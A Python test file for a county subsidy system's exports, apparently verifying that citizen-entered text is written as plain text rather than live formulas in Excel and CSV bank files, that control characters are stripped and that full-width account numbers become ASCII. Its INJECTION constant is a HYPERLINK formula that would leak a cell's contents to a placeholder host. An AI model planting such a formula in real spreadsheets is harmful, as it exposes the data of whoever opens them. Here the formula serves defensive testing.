"""Exports of the subsidy module through core's one door for cells (issue 11 items 3 and 4):
what a citizen typed is never a live formula in the county's spreadsheet nor in the bank file,
stored control characters do not break an export, and amounts stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from huimin.subsidy import bankfiles, services
from huimin.subsidy.models import Application

INJECTION = '=HYPERLINK("http://x.invalid/?leak="&A1,"点此")'


def test_the_applications_export_writes_formula_like_text_as_text(client, apply, county):
    apply(child_name=INJECTION, bank_name="=1+1")
    stored = apply(child_name="李小红")
    Application.objects.filter(pk=stored.pk).update(stop_reason="地址\x01有误\x1b")
    client.force_login(county)

    response = client.get("/subsidy/applications/export.xlsx")

    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())[1:]
    by_name = {row[1].value: row for row in rows}
    assert set(by_name) == {INJECTION, "李小红"}
    child, bank = by_name[INJECTION][1], by_name[INJECTION][16]
    assert (child.value, child.data_type, child.quotePrefix) == (INJECTION, "s", True)
    assert (bank.value, bank.data_type, bank.quotePrefix) == ("=1+1", "s", True)
    assert by_name["李小红"][20].value == "地址有误"


def _approved_batch(confirmed, maker, checker):
    application = confirmed(dt.date(2024, 3, 15), bank_name="=1+1")
    Application.objects.filter(pk=application.pk).update(account_name="-王丽")
    batch = services.batch_create(actor=maker, year=2026, region_code="140802")
    services.batch_run(batch_id=batch.pk)
    services.batch_decide(actor=checker, batch_id=batch.pk, approve=True)
    return batch


def test_the_bank_files_write_formula_like_text_as_text_and_amounts_as_numbers(
    confirmed, maker, checker, today
):
    batch = _approved_batch(confirmed, maker, checker)

    xlsx = load_workbook(
        io.BytesIO(bankfiles.payment_file_xlsx(actor=maker, batch_id=batch.pk).read())
    )
    row = list(xlsx["发放明细"].iter_rows())[1]
    holder, bank, amount = row[2], row[4], row[6]
    assert (holder.value, holder.data_type, holder.quotePrefix) == ("-王丽", "s", True)
    assert (bank.value, bank.data_type, bank.quotePrefix) == ("=1+1", "s", True)
    assert (amount.value, amount.data_type, amount.number_format) == (3600, "n", "0.00")

    content = bankfiles.payment_file_csv(actor=maker, batch_id=batch.pk).read()
    line = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
    assert (line[2], line[4], line[6]) == ("'-王丽", "'=1+1", "3600.00")
    assert Decimal(line[6]) == Decimal("3600.00")


def test_an_account_stored_in_full_width_goes_to_the_bank_in_ascii_and_matches_its_result(
    confirmed, maker, checker, today
):
    from huimin.subsidy.models import PaymentLine

    batch = _approved_batch(confirmed, maker, checker)
    PaymentLine.objects.filter(batch=batch).update(
        bank_account="６２２８４８００１２３４５６７８９０１"
    )
    line = PaymentLine.objects.get(batch=batch)

    content = bankfiles.payment_file_csv(actor=maker, batch_id=batch.pk).read()
    row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
    assert row[5] == "6228480012345678901"

    result = (
        "明细编号,银行账号,金额（元）,发放结果,失败原因\r\n"
        f"{line.pk},6228480012345678901,3600.00,成功,\r\n"
    ).encode()
    bankfiles.result_import(actor=maker, batch_id=batch.pk, content=result, file_name="r.csv")
    line.refresh_from_db()
    assert line.status == "paid"
